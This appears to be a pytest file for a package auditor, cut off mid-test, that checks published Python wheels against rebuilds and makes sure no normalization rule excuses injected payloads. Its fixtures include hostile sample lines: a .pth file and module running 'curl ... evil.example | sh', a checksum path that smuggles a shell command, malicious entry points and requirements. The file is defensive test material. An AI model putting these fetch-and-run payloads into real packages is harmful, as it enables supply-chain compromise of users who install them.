"""Attacker twins of the rules of the rebuilt and the other-platform comparisons (judge/members.py and what it calls;
the sources check too, for the rules that apply there): each rule's own honest situation is accepted under its
name, and the same situation carrying a payload the rule is not about (a .pth, a module, a script, an entry point,
a Requires-Dist, changed code inside the excused variation, an exec bit, a second entry of one name, a member
outside the shape the tool writes) stays a difference of class code naming that member."""

from __future__ import annotations

import base64
import gzip
import hashlib
import importlib.util
import json
import warnings
import zipfile
from pathlib import Path

import pytest

from auditor.fetch.archives import read_wheel
from auditor.judge.configured import SdistFiles, SdistSources
from auditor.judge.members import compare_other_platform, compare_wheels
from auditor.judge.sources import _sdist_files, cross_check_sources, extension_sources
from auditor.judge.verdicts import verdict_of
from auditor.records import Verdict
from tests.test_compare import BASE, T1, T2, _other_platform, true_record, wheel

EVIL = b"import os\nos.system('curl -s https://evil.example/x | sh')\n"
PTH = ("zz_evil.pth", b"import os; os.system('curl -s https://evil.example/x | sh')\n", 0o644)
MODULE = ("pkg/evil.py", EVIL, 0o644)
CHANGED = b"def f():\n    import os\n    return os.system('id')\n"
SO = ("pkg/_speed.cpython-311-x86_64-linux-gnu.so", b"\x7fELF-rebuilt", 0o755)


def coded(cmp) -> list[tuple[str, str]]:
    return [(d.path, d.cls) for d in cmp.differences]


def _add(members, *extra) -> list:
    """`members` with `extra` inserted before RECORD (the last member)."""
    return list(members[:-1]) + list(extra) + list(members[-1:])


def _set(members, name: str, data=None, mode: int | None = None) -> list:
    """`members` with member `name`'s bytes (or a function of them) and mode replaced."""
    return [(n, (data(d) if callable(data) else data) if n == name and data is not None else d,
             mode if n == name and mode is not None else m) for n, d, m in members]


def _payloads(members, dist: str = "pkg-1.0") -> list[tuple[str, list, str]]:
    """(what, the members with that payload, the member that must be a difference of class code)."""
    out = [
        ("changed module", _set(members, "pkg/tool.py", CHANGED), "pkg/tool.py"),
        ("added .pth", _add(members, PTH), PTH[0]),
        ("added module", _add(members, MODULE), MODULE[0]),
        ("added script", _add(members, (f"{dist}.data/scripts/evil", b"#!/bin/sh\ncurl evil | sh\n", 0o755)),
         f"{dist}.data/scripts/evil"),
        ("added entry point", _add(members, (f"{dist}.dist-info/entry_points.txt",
                                             b"[console_scripts]\nevil = pkg.evil:main\n", 0o644)),
         f"{dist}.dist-info/entry_points.txt"),
        ("added Requires-Dist", _set(members, f"{dist}.dist-info/METADATA",
                                     lambda d: d.replace(b"\nVersion:", b"\nRequires-Dist: evil-helper>=1\nVersion:", 1)),
         f"{dist}.dist-info/METADATA"),
    ]
    return out


def _raw_wheel(path: Path, members, date_times: dict | None = None, dirs=()) -> object:
    """A wheel whose modes are written as given when they carry a file type (a directory's, a link's), each
    member at its own time (`date_times`), RECORD true."""
    with zipfile.ZipFile(path, "w") as zf:
        for d in dirs:
            zf.writestr(zipfile.ZipInfo(d, date_time=T1), b"")
        for name, data, mode in true_record(members):
            info = zipfile.ZipInfo(name, date_time=(date_times or {}).get(name, T1))
            info.external_attr = (mode if mode >= 0o10000 else 0o100000 | mode) << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return read_wheel(path)


def _plat(members, tag: str, purelib: bool = False) -> list:
    """`members` with WHEEL tagged for a platform."""
    return _set(members, "pkg-1.0.dist-info/WHEEL", lambda d: d.replace(
        b"Root-Is-Purelib: true\nTag: py3-none-any", f"Root-Is-Purelib: {str(purelib).lower()}\nTag: {tag}".encode()))


def _assert_payloads(tmp_path, reb, honest_members, compare, what: str = "", **kw) -> None:
    for i, (label, members, path) in enumerate(_payloads(honest_members, **kw)):
        cmp = compare(wheel(tmp_path / f"{what}payload{i}.whl", members=members), reb)
        assert (path, "code") in coded(cmp), (label, cmp.differences)


# ---------------------------------------------------------------- the archive's form (judge/members.py)

@pytest.mark.twin("zip-mtime")
def test_other_entry_times_never_excuse_changed_or_added_code(tmp_path):
    reb = wheel(tmp_path / "r.whl")
    cmp = compare_wheels(wheel(tmp_path / "p.whl", date_time=T2), reb)
    assert cmp.normalizations == ["zip-mtime"] and not cmp.differences
    for i, (label, members, path) in enumerate(_payloads(BASE)):
        cmp = compare_wheels(wheel(tmp_path / f"e{i}.whl", members=members, date_time=T2), reb)
        assert "zip-mtime" in cmp.normalizations and (path, "code") in coded(cmp), (label, cmp.differences)
    # a module dated days before the rest (a file left in the publisher's tree): said so, still added code
    old = (2019, 1, 1, 0, 0, 0)
    cmp = compare_wheels(_raw_wheel(tmp_path / "stale.whl", _add(BASE, MODULE), {MODULE[0]: old}), reb)
    (d,) = [d for d in cmp.differences if d.path == MODULE[0]]
    assert d.cls == "code" and d.cause and "dated 2019-01-01" in d.cause


@pytest.mark.twin("zip-order")
def test_another_member_order_never_excuses_a_second_entry_of_one_name_nor_added_code(tmp_path):
    reb = wheel(tmp_path / "r.whl")
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=list(reversed(BASE))), reb)
    assert "zip-order" in cmp.normalizations and not cmp.differences
    for i, (label, members, path) in enumerate(_payloads(BASE)):
        cmp = compare_wheels(wheel(tmp_path / f"e{i}.whl", members=list(reversed(members))), reb)
        assert "zip-order" in cmp.normalizations and (path, "code") in coded(cmp), (label, cmp.differences)
    # the same module twice, the second with other code: an installer writes one of them
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        twice = wheel(tmp_path / "twice.whl", members=list(reversed(_add(BASE, ("pkg/tool.py", CHANGED, 0o644)))))
    cmp = compare_wheels(twice, reb)
    assert ("pkg/tool.py", "code") in coded(cmp) and any(d.kind == "archive" for d in cmp.differences), cmp.differences


@pytest.mark.twin("zip-permissions-umask")
def test_other_permission_bits_never_excuse_an_exec_bit_a_link_or_added_code(tmp_path):
    helper = "pkg-1.0.data/data/bin/helper"  # installed into a bin directory: the exec bit lets a shell run it
    base = _add(BASE, (helper, b"#!/bin/sh\necho hi\n", 0o644))
    reb = wheel(tmp_path / "r.whl", members=base)
    umask = [(n, d, {"pkg/tool.py": 0o664, "pkg/__init__.py": 0o600, helper: 0o640}.get(n, m)) for n, d, m in base]
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=umask), reb)
    assert cmp.normalizations == ["zip-permissions-umask"] and not cmp.differences
    _assert_payloads(tmp_path, reb, umask, compare_wheels)
    # any exec bit (the owner's, the group's, anyone's) where it lets a file run: code; on a module it is still a
    # difference (class packaging: Python imports it, never runs it by path); a module made a link: code
    for i, mode in enumerate((0o744, 0o654, 0o645, 0o4755)):
        cmp = compare_wheels(_raw_wheel(tmp_path / f"x{i}.whl", _set(umask, helper, mode=mode)), reb)
        assert (helper, "code") in coded(cmp) and any(d.kind == "mode" for d in cmp.differences), oct(mode)
        cmp = compare_wheels(_raw_wheel(tmp_path / f"m{i}.whl", _set(umask, "pkg/tool.py", mode=mode)), reb)
        assert [d.kind for d in cmp.differences if d.path == "pkg/tool.py"] == ["mode"], oct(mode)
    cmp = compare_wheels(_raw_wheel(tmp_path / "link.whl", _set(umask, "pkg/tool.py", mode=0o120777)), reb)
    assert ("pkg/tool.py", "code") in coded(cmp) and any(d.kind == "mode" for d in cmp.differences)


@pytest.mark.twin("zip-compression")
def test_another_compression_never_excuses_other_decompressed_content(tmp_path):
    reb = wheel(tmp_path / "r.whl")
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        cmp = compare_wheels(wheel(tmp_path / f"p{method}.whl", compress=method), reb)
        assert cmp.normalizations == ["zip-compression"] and not cmp.differences, method
        for i, (label, members, path) in enumerate(_payloads(BASE)):
            cmp = compare_wheels(wheel(tmp_path / f"e{method}-{i}.whl", members=members, compress=method), reb)
            assert "zip-compression" in cmp.normalizations and (path, "code") in coded(cmp), (method, label)


@pytest.mark.twin("zip-directory-entries")
def test_directory_entries_never_excuse_what_they_hold_nor_a_file_posing_as_a_directory(tmp_path):
    reb = wheel(tmp_path / "r.whl")
    cmp = compare_wheels(wheel(tmp_path / "p.whl", dirs=["pkg/", "pkg-1.0.dist-info/"]), reb)
    assert cmp.normalizations == ["zip-directory-entries"] and not cmp.differences
    for i, (label, members, path) in enumerate(_payloads(BASE)):
        cmp = compare_wheels(wheel(tmp_path / f"e{i}.whl", members=members, dirs=["pkg/", "evil/"]), reb)
        assert "zip-directory-entries" in cmp.normalizations and (path, "code") in coded(cmp), (label, cmp.differences)
    # a package added with its directory entry; a file whose mode says directory but whose name is a file's
    # (an installer writes it as a file: .pth)
    pkg = wheel(tmp_path / "pkg.whl", members=_add(BASE, ("evil/__init__.py", EVIL, 0o644)), dirs=["evil/"])
    assert ("evil/__init__.py", "code") in coded(compare_wheels(pkg, reb))
    posing = _raw_wheel(tmp_path / "posing.whl", _add(BASE, ("zz_dir.pth", PTH[1], 0o040755)), dirs=["pkg/"])
    assert ("zz_dir.pth", "code") in coded(compare_wheels(posing, reb))


@pytest.mark.twin("crlf-line-endings")
def test_crlf_line_endings_never_excuse_changed_code_on_every_path(tmp_path):
    """A Windows checkout writes CRLF; a change of code written with CRLF (or behind a lone CR, which Python reads as
    a line end) stays code: against the rebuild (another platform's wheel) and against the sdist (sources check)."""
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, SO))
    crlf = _set(BASE, "pkg/tool.py", lambda d: d.replace(b"\n", b"\r\n"))
    cmp = compare_other_platform(wheel(tmp_path / "win.whl", members=_other_platform(crlf)), reb)
    assert cmp.judged_by.get("pkg/tool.py") == "crlf-line-endings" and not cmp.differences, cmp.differences
    tool = dict((n, d) for n, d, _ in BASE)["pkg/tool.py"]
    evil = [CHANGED.replace(b"\n", b"\r\n"), tool.replace(b"\n", b"\r\n") + b"import os; os.system('id')\r\n",
            tool.replace(b"\n", b"\r\n") + b"\rimport os; os.system('id')"]
    for i, data in enumerate(evil):
        cmp = compare_other_platform(wheel(tmp_path / f"e{i}.whl", members=_other_platform(
            _set(crlf, "pkg/tool.py", data))), reb)
        assert ("pkg/tool.py", "code") in coded(cmp), (data, cmp.differences)
    for i, (label, members, path) in enumerate(_payloads(crlf)):
        cmp = compare_other_platform(wheel(tmp_path / f"p{i}.whl", members=_other_platform(members)), reb)
        assert (path, "code") in coded(cmp), (label, cmp.differences)
    # the sources check: the sdist's LF file, the published one CRLF
    src = tmp_path / "src"
    (src / "pkg").mkdir(parents=True)
    for n, d, _ in BASE[:2]:
        (src / n).write_bytes(d)
    cmp = cross_check_sources(wheel(tmp_path / "s.whl", members=_other_platform(crlf)), src)
    assert cmp.judged_by.get("pkg/tool.py") == "crlf-line-endings" and not cmp.differences, cmp.differences
    for i, data in enumerate(evil):
        cmp = cross_check_sources(wheel(tmp_path / f"s{i}.whl", members=_other_platform(_set(crlf, "pkg/tool.py", data))),
                                  src)
        assert ("pkg/tool.py", "code") in coded(cmp), (data, cmp.differences)


# ---------------------------------------------------------------- dist-info by meaning, names and locations

META_NEW = (b"Metadata-Version: 2.4\nName: pkg\nVersion: 1.0\nRequires-Dist: vine<6.0.0,>=5.0.0\n"
            b"Requires-Dist: pytest; extra == \"dev\"\nProvides-Extra: dev\n\nLong text.\n")
META_OLD = (b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nPlatform: UNKNOWN\nProvides-Extra: dev\n"
            b"Requires-Dist: vine (<6.0.0,>=5.0.0)\nRequires-Dist: pytest ; extra == 'dev'\nLicense-File: LICENSE\n"
            b"\nLong text.\n\n\n")
EPS = ("pkg-1.0.dist-info/entry_points.txt", b"[console_scripts]\npkg = pkg.tool:f\n\n[pytest11]\npkg = pkg.tool\n")


@pytest.mark.twin("metadata-format")
def test_metadata_spelled_another_way_never_excuses_another_requirement_or_entry_point(tmp_path):
    """Older setuptools' spelling of METADATA and entry_points.txt is the same facts; a requirement, an entry
    point, a plugin hidden where importlib.metadata reads one (a line starting with `;`, a [DEFAULT] section,
    which a config-file parser takes for a comment and for every section's defaults) is not."""
    new = _add(_set(BASE, "pkg-1.0.dist-info/METADATA", META_NEW), (EPS[0], EPS[1], 0o644))
    old_eps = b"[console_scripts]\npkg=pkg.tool:f\n[pytest11]\npkg =  pkg.tool\n\n\n"
    old = _add(_set(BASE, "pkg-1.0.dist-info/METADATA", META_OLD), (EPS[0], old_eps, 0o644))
    reb = wheel(tmp_path / "r.whl", members=new)
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=old), reb)
    assert "metadata-format" in cmp.normalizations and not cmp.differences, cmp.differences
    assert cmp.judged_by == {} and any("entry_points.txt" in n for n in cmp.format_notes)
    meta = "pkg-1.0.dist-info/METADATA"
    payloads = [
        (meta, _set(old, meta, META_OLD.replace(b"License-File", b"Requires-Dist: evil-helper>=1\nLicense-File"))),
        (meta, _set(old, meta, META_OLD.replace(b"License-File", b"requires-dist: evil-helper>=1\nLicense-File"))),
        (meta, _set(old, meta, META_OLD.replace(b"extra == 'dev'", b"extra == 'dev' or os_name == 'posix'"))),
        (meta, _set(old, meta, META_OLD.replace(b"Version: 1.0", b"Version: 1.0.post1"))),
        (meta, _set(old, meta, META_OLD.replace(b"Platform: UNKNOWN", b"Requires-Python: >=3.0"))),
        (EPS[0], _set(old, EPS[0], old_eps + b"[console_scripts]\nevil = pkg.evil:main\n")),
        (EPS[0], _set(old, EPS[0], old_eps.replace(b"[pytest11]\n", b"[pytest11]\nevil = pkg.evil\n"))),
        (EPS[0], _set(old, EPS[0], old_eps.replace(b"[pytest11]\n", b"[pytest11]\n;evil = pkg.evil\n"))),
        (EPS[0], _set(old, EPS[0], old_eps.replace(b"pkg =  pkg.tool", b"pkg =  pkg.tool\n  evil = pkg.evil"))),
        (EPS[0], _set(old, EPS[0], old_eps.replace(b"pkg=pkg.tool:f", b"pkg=pkg.tool:f\npkg=pkg.evil:main"))),
    ]
    for i, (path, members) in enumerate(payloads):
        cmp = compare_wheels(wheel(tmp_path / f"e{i}.whl", members=_add(members, MODULE)), reb)
        assert (path, "code") in coded(cmp), (i, cmp.differences)
    # the rebuild's own [DEFAULT] section is a group no one loads; the published console script is a command
    reb_default = wheel(tmp_path / "rd.whl", members=_set(new, EPS[0], EPS[1] + b"\n[DEFAULT]\nevil = pkg.evil:main\n"))
    moved = _set(new, EPS[0], EPS[1].replace(b"[pytest11]", b"evil = pkg.evil:main\n\n[pytest11]") +
                 b"\n[DEFAULT]\nevil = pkg.evil:main\n")
    cmp = compare_wheels(wheel(tmp_path / "default.whl", members=moved), reb_default)
    assert (EPS[0], "code") in coded(cmp), cmp.differences
    # WHEEL: fields in another order are a spelling; Root-Is-Purelib is where the files install
    wheel_file = "pkg-1.0.dist-info/WHEEL"
    order = _set(BASE, wheel_file, b"Wheel-Version: 1.0\nTag: py3-none-any\nRoot-Is-Purelib: true\nGenerator: flit 3.9.0\n")
    cmp = compare_wheels(wheel(tmp_path / "order.whl", members=order), wheel(tmp_path / "r2.whl"))
    assert "metadata-format" in cmp.normalizations and not cmp.differences
    cmp = compare_wheels(wheel(tmp_path / "purelib.whl", members=_set(order, wheel_file, lambda d: d.replace(
        b"Root-Is-Purelib: true", b"Root-Is-Purelib: false"))), wheel(tmp_path / "r2.whl"))
    assert (wheel_file, "code") in coded(cmp)


NSPKG = b"import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('pkg',))\n"


@pytest.mark.twin("nspkg-pth-python-version")
def test_a_namespace_pth_named_after_another_python_never_excuses_other_bytes_or_a_second_pth(tmp_path):
    pth = "pkg-1.0-py3.10-nspkg.pth"
    for path in ("rebuilt", "other platform"):
        reb = wheel(tmp_path / f"r-{path}.whl", members=_add(BASE, SO, ("pkg-1.0-py3.11-nspkg.pth", NSPKG, 0o644)))
        honest = _add(BASE, (pth, NSPKG, 0o644))

        def compare(members, tag: str):
            if path == "rebuilt":
                return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=_add(members, SO)), reb)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=_other_platform(members)), reb)

        cmp = compare(honest, f"honest-{path}")
        assert "nspkg-pth-python-version" in cmp.normalizations and not cmp.differences, (path, cmp.differences)
        payloads = [
            (pth, _set(honest, pth, NSPKG + b"import os; os.system('id')\n")),
            (pth, _set(honest, pth, NSPKG.replace(b"'pkg'", b"'evil'"))),
            ("evil-1.0-py3.10-nspkg.pth", _add(honest, ("evil-1.0-py3.10-nspkg.pth", NSPKG, 0o644))),
            ("pkg-1.0-py3.9-nspkg.pth", _add(honest, ("pkg-1.0-py3.9-nspkg.pth", NSPKG, 0o644))),
            ("pkg-1.0-py3.10-nspkg.pth.pth", _set(honest, pth, None) + [("pkg-1.0-py3.10-nspkg.pth.pth", NSPKG, 0o644)]),
        ]
        if path == "other platform":  # CRLF is allowed there: not around another statement
            payloads.append((pth, _set(honest, pth, NSPKG.replace(b"\n", b"\r\n") + b"import os; os.system('id')\r\n")))
        for i, (name, members) in enumerate(payloads):
            cmp = compare(members, f"e{i}-{path}")
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
        for i, (label, members, name) in enumerate(_payloads(honest)):
            cmp = compare(members, f"p{i}-{path}")
            assert (name, "code") in coded(cmp), (path, label, cmp.differences)


DIRECT_URL = b'{"url": "https://evil.example/pkg.whl", "archive_info": {}}\n'


@pytest.mark.twin("license-file-location")
def test_a_license_moved_into_licenses_never_excuses_a_dist_info_file_that_steers_installers(tmp_path):
    """A license with the same bytes at dist-info/F and dist-info/licenses/F is one file moved. entry_points.txt
    or direct_url.json published at the dist-info's root is no license, even where the rebuild carries the same bytes
    under licenses/ (an sdist that lists them as license files): there they are inert, here they are commands."""
    lic = b"MIT License\n"
    eps = b"[console_scripts]\nevil = pkg.evil:main\n"
    for path in ("rebuilt", "other platform"):
        reb = wheel(tmp_path / f"r-{path}.whl", members=_add(BASE, ("pkg-1.0.dist-info/licenses/LICENSE", lic, 0o644),
                                                            ("pkg-1.0.dist-info/licenses/entry_points.txt", eps, 0o644),
                                                            ("pkg-1.0.dist-info/licenses/direct_url.json", DIRECT_URL, 0o644)))

        def compare(members, tag: str):
            if path == "rebuilt":
                return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=members), reb)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=_other_platform(members)), reb)

        honest = _add(BASE, ("pkg-1.0.dist-info/LICENSE", lic, 0o644),
                      ("pkg-1.0.dist-info/licenses/entry_points.txt", eps, 0o644),
                      ("pkg-1.0.dist-info/licenses/direct_url.json", DIRECT_URL, 0o644))
        cmp = compare(honest, f"honest-{path}")
        assert "license-file-location" in cmp.normalizations and not cmp.differences, (path, cmp.differences)
        moved = _add(BASE, ("pkg-1.0.dist-info/LICENSE", lic, 0o644), ("pkg-1.0.dist-info/entry_points.txt", eps, 0o644),
                     ("pkg-1.0.dist-info/direct_url.json", DIRECT_URL, 0o644), MODULE)
        cmp = compare(moved, f"moved-{path}")
        assert "license-file-location" in cmp.normalizations
        for name in ("pkg-1.0.dist-info/entry_points.txt", "pkg-1.0.dist-info/direct_url.json", MODULE[0]):
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
        for i, (label, members, name) in enumerate(_payloads(honest)):
            cmp = compare(members, f"p{i}-{path}")
            assert (name, "code") in coded(cmp), (path, label, cmp.differences)


@pytest.mark.twin("dist-info-name")
def test_a_dist_info_name_spelled_another_way_never_excuses_what_it_holds(tmp_path):
    reb = wheel(tmp_path / "r.whl")

    def spelled(members, dist: str = "Pkg-1.0"):
        return [(n.replace("pkg-1.0.", f"{dist}."), d, m) for n, d, m in members]

    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=spelled(BASE)), reb)
    assert "dist-info-name" in cmp.normalizations and not cmp.differences
    for i, (label, members, path) in enumerate(_payloads(BASE)):
        cmp = compare_wheels(wheel(tmp_path / f"e{i}.whl", members=spelled(members)), reb)
        assert "dist-info-name" in cmp.normalizations, label
        assert (path.replace("pkg-1.0.", "Pkg-1.0."), "code") in coded(cmp), (label, cmp.differences)
    # a second dist-info of the same project spelled a third way, holding entry points
    two = wheel(tmp_path / "two.whl", members=_add(spelled(BASE), ("PKG-1.0.dist-info/entry_points.txt",
                                                                  b"[console_scripts]\nevil = pkg.evil:main\n", 0o644)))
    assert ("PKG-1.0.dist-info/entry_points.txt", "code") in coded(compare_wheels(two, reb))
    # another project's name is no spelling
    other = compare_wheels(wheel(tmp_path / "o.whl", members=spelled(BASE, "evil-1.0")), reb)
    assert "dist-info-name" not in other.normalizations and ("evil-1.0.dist-info/METADATA", "code") in coded(other)


# ---------------------------------------------------------------- files the build generates (judge/generated.py)

def _stamp(prefix: str, data: bytes, member: str = "pkg/_x.pyx", sep: str = "  ") -> bytes:
    return f"{hashlib.sha256(data).hexdigest()}{sep}{prefix}{member}\n".encode()


PYX = b"cdef int x = 1\n"


@pytest.mark.twin("build-path")
def test_a_checksum_file_naming_the_builders_checkout_never_excuses_changed_sources_or_a_command(tmp_path):
    """aiohttp's .hash/X.hash name each source by the builder's checkout; the sources they stamp, a stamped module
    added, and a checksum file that runs (a script whose `path` holds a shell command) are not the builder's path."""
    stamp = "pkg/.hash/_x.pyx.hash"
    reb_members = _add(BASE, ("pkg/_x.pyx", PYX, 0o644), (stamp, _stamp("/home/runner/work/pkg/", PYX), 0o644))
    honest = _set(reb_members, stamp, _stamp("/Users/runner/work/pkg/", PYX))
    for path in ("rebuilt", "other platform"):
        reb = wheel(tmp_path / f"r-{path}.whl", members=_add(reb_members, SO))

        def compare(members, tag: str):
            if path == "rebuilt":
                return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=_add(members, SO)), reb, binary=True)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=_other_platform(members)), reb)

        cmp = compare(honest, f"honest-{path}")
        assert cmp.judged_by.get(stamp) == "build-path" and "build-path" in cmp.normalizations, (path, cmp.differences)
        assert not cmp.differences, (path, cmp.differences)
        changed = _set(_set(honest, "pkg/_x.pyx", EVIL), stamp, _stamp("/Users/runner/work/pkg/", EVIL))
        both = _add(_set(honest, stamp, lambda d: d + _stamp("/Users/runner/work/pkg/", EVIL, "pkg/evil.py")), MODULE)
        for i, (name, members) in enumerate([("pkg/_x.pyx", changed), (MODULE[0], both), (stamp, both)]):
            cmp = compare(members, f"e{i}-{path}")
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
        for i, (label, members, name) in enumerate(_payloads(honest)):
            cmp = compare(members, f"p{i}-{path}")
            assert (name, "code") in coded(cmp), (path, label, cmp.differences)
        # a checksum file installed as a command (or executable): its `path` runs in a shell
        for j, (where, mode) in enumerate((("pkg-1.0.data/scripts/check", 0o755), ("pkg/.hash/check", 0o755),
                                           ("pkg/.hash/check.sh", 0o644))):
            reb_cmd = wheel(tmp_path / f"rc{j}-{path}.whl", members=_add(reb_members, SO, (
                where, _stamp("/home/runner/work/pkg/", PYX), mode)))
            cmd = _add(honest, (where, _stamp("/tmp/x;curl -s https://evil.example/x|sh;/", PYX), mode))
            if path == "rebuilt":
                cmp = compare_wheels(wheel(tmp_path / f"c{j}.whl", members=_add(cmd, SO)), reb_cmd, binary=True)
            else:
                cmp = compare_other_platform(wheel(tmp_path / f"c{j}-o.whl", members=_other_platform(cmd)), reb_cmd)
            assert (where, "code") in coded(cmp), (path, where, cmp.differences)


def _cdx(serial: str, components=(("libjpeg", "3.1.0"), ("zlib", "1.3.1"))) -> bytes:
    return json.dumps({"bomFormat": "CycloneDX", "specVersion": "1.6", "serialNumber": serial,
                       "metadata": {"timestamp": serial, "component": {"name": "pkg", "version": "1.0"}},
                       "components": [{"name": n, "version": v} for n, v in components]}).encode()


SBOM_PATH = "pkg-1.0.dist-info/sboms/pkg.cdx.json"


@pytest.mark.twin("sbom-same-components")
def test_an_sbom_with_the_same_components_never_excuses_another_component_nor_code_beside_it(tmp_path):
    for path in ("rebuilt", "other platform"):
        reb = wheel(tmp_path / f"r-{path}.whl", members=_add(BASE, (SBOM_PATH, _cdx("urn:uuid:1"), 0o644)))

        def compare(members, tag: str):
            if path == "rebuilt":
                return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=members), reb)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=_other_platform(members)), reb)

        honest = _add(BASE, (SBOM_PATH, _cdx("urn:uuid:2"), 0o644))
        cmp = compare(honest, f"honest-{path}")
        assert "sbom-same-components" in cmp.normalizations and not cmp.differences, (path, cmp.differences)
        assert cmp.judged_by.get(SBOM_PATH) == "project-sbom"
        for i, (label, members, name) in enumerate(_payloads(honest)):
            cmp = compare(members, f"p{i}-{path}")
            assert (name, "code") in coded(cmp), (path, label, cmp.differences)
        # a component only the published document lists: a difference (the document is data: class metadata)
        more = compare(_set(honest, SBOM_PATH, _cdx("urn:uuid:3", (("libjpeg", "3.1.0"), ("evil", "1")))), f"m-{path}")
        assert (SBOM_PATH, "metadata") in coded(more), more.differences


@pytest.mark.twin("project-sbom")
def test_a_projects_own_sbom_never_excuses_a_member_outside_sboms_or_that_is_no_document(tmp_path):
    so_reb = ("pkg/_speed.cpython-311-x86_64-linux-gnu.so", b"\x7fELF-one", 0o755)
    for path in ("rebuilt", "other platform"):
        reb = wheel(tmp_path / f"r-{path}.whl", members=_add(BASE, so_reb))

        def compare(members, tag: str):
            if path == "rebuilt":
                return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=_add(members, so_reb)), reb, binary=True)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=_other_platform(members)), reb)

        honest = _add(BASE, (SBOM_PATH, _cdx("urn:uuid:2"), 0o644))
        cmp = compare(honest, f"honest-{path}")
        assert not cmp.differences and ("project-sbom", "metadata") in [
            (d.cause, d.cls) for d in cmp.compiled_differences if d.path == SBOM_PATH], (path, cmp.differences)
        for i, (label, members, name) in enumerate(_payloads(honest)):
            cmp = compare(members, f"p{i}-{path}")
            assert (name, "code") in coded(cmp), (path, label, cmp.differences)
        shapes = [("pkg-1.0.dist-info/sboms/evil.pth", PTH[1]), ("pkg/sboms/pkg.cdx.json", _cdx("x")),
                  ("pkg-1.0.dist-info/sboms/sub/pkg.cdx.json", _cdx("x")), ("pkg-1.0.dist-info/sboms/run.py", EVIL)]
        for i, (name, data) in enumerate(shapes):
            cmp = compare(_add(honest, (name, data, 0o644)), f"s{i}-{path}")
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)


# ---------------------------------------------------------------- RECORD

def _record_rows(members, sep: str = "/") -> bytes:
    rows = "".join(f"{n.replace('/', sep) if not n.endswith('.dist-info/RECORD') else n},sha256="
                   f"{base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}\n"
                   for n, d, _ in members if not n.endswith("/RECORD"))
    return (rows + "pkg-1.0.dist-info/RECORD,,\n").encode()


def _with_record(members, sep: str = "/", extra: bytes = b"") -> list:
    return _set(members, "pkg-1.0.dist-info/RECORD", _record_rows(members, sep) + extra)


@pytest.mark.twin("record-rows")
def test_record_rows_that_differ_with_their_members_never_excuse_the_members_nor_a_record_untrue_to_its_wheel(tmp_path):
    reb = wheel(tmp_path / "r.whl", members=_set(BASE, "pkg-1.0.dist-info/METADATA", META_NEW))
    honest = _set(BASE, "pkg-1.0.dist-info/METADATA", META_OLD)
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=list(reversed(honest))), reb)
    assert "record-rows" in cmp.normalizations and not cmp.differences, cmp.differences
    record = "pkg-1.0.dist-info/RECORD"
    for i, (label, members, name) in enumerate(_payloads(honest)):
        cmp = compare_wheels(wheel(tmp_path / f"p{i}.whl", members=members), reb)
        # a row names the member's bytes: its row differs too (the evidence, shown)
        assert (name, "code") in coded(cmp) and (record, "packaging") in coded(cmp), (label, cmp.differences)
        assert "record-rows" not in cmp.normalizations, label
    # RECORD untrue to its own wheel: a member it does not list, a row whose hash is not its member's, a row twice
    lying = [_with_record(_add(honest, MODULE))[:-1] + [(record, _record_rows(honest), 0o644)],
             _set(_with_record(_add(honest, MODULE)), record, lambda d: d.replace(
                 _record_rows([MODULE]).split(b"\n")[0], _record_rows([(MODULE[0], b"x = 1\n", 0)]).split(b"\n")[0])),
             _with_record(_add(honest, MODULE), extra=_record_rows([MODULE]).split(b"\n")[0] + b"\n")]
    for i, members in enumerate(lying):
        cmp = compare_wheels(wheel(tmp_path / f"l{i}.whl", members=members), reb)
        assert (MODULE[0], "code") in coded(cmp) and (record, "packaging") in coded(cmp), (i, cmp.differences)


@pytest.mark.twin("record-path-separators")
def test_record_rows_with_windows_separators_never_excuse_an_added_member_or_a_row_untrue_to_it(tmp_path):
    """comrak's Windows wheels (maturin) name members pkg\\mod.py in RECORD: read as pkg/mod.py, on the other
    platform's path and in the sources check; every row still checked, every member still judged."""
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, SO))
    src = tmp_path / "src"
    (src / "pkg").mkdir(parents=True)
    for n, d, _ in BASE[:2]:
        (src / n).write_bytes(d)
    honest = _with_record(_other_platform(BASE), sep="\\")
    record = "pkg-1.0.dist-info/RECORD"
    for path in ("other platform", "sources"):
        def compare(members, tag: str):
            pub = wheel(tmp_path / f"{tag}-{path}.whl", members=members)
            return compare_other_platform(pub, reb) if path == "other platform" else cross_check_sources(pub, src)

        cmp = compare(honest, "honest")
        assert "record-path-separators" in cmp.normalizations and not cmp.differences, (path, cmp.differences)
        assert b"pkg\\tool.py" in dict((n, d) for n, d, _ in honest)[record]
        added = _with_record(_other_platform(_add(BASE, MODULE)), sep="\\")
        named = _with_record(_other_platform(_add(BASE, ("pkg\\evil.py", EVIL, 0o644))), sep="\\")
        for i, (name, members) in enumerate([(MODULE[0], added), ("pkg\\evil.py", named)]):
            cmp = compare(members, f"e{i}")
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
        # a row naming a member twice (once each way), a row whose hash is not its member's: RECORD differs
        twice = _set(honest, record, lambda d: d + d.split(b"\n")[1].replace(b"\\", b"/") + b"\n")
